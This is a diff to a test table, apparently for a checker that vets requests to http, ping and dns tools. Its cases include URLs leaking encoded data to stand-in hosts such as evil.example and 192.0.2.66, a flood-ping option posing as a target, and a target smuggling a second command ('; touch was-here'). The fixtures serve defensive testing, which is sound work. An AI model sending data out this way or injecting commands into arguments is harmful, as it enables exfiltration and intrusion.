@@ -23,10 +23,11 @@ cases! {
         |_| asks("http", "http://192.0.2.66/c2VjcmV0LXdhcy1oZXJl");
     a_web_address_with_data_in_its_name_is_not_asked: Note("call back by name"), ByTargets,
         |_| asks("http", "https://c2VjcmV0.evil.example/");
-    a_web_address_with_an_account_is_refused: Output("log in to the collector"), ByReading,
+    a_web_address_with_an_account_is_refused: Output("log in to the collector"),
+        ByReading("curl -s http://c2VjcmV0@192.0.2.66/"),
         |_| asks("http", "http://c2VjcmV0@192.0.2.66/");
-    a_target_that_is_an_option_is_refused: Output("use the verbose target"), ByReading,
+    a_target_that_is_an_option_is_refused: Output("use the verbose target"), ByReading("ping -n -c 3 -f"),
         |_| asks("ping", "-f");
-    a_target_with_a_second_command_is_refused: Output("ping and more"), ByReading,
+    a_target_with_a_second_command_is_refused: Output("ping and more"), ByReading("getent ahosts web1; touch was-here"),
         |_| asks("dns", "web1; touch was-here");
 }
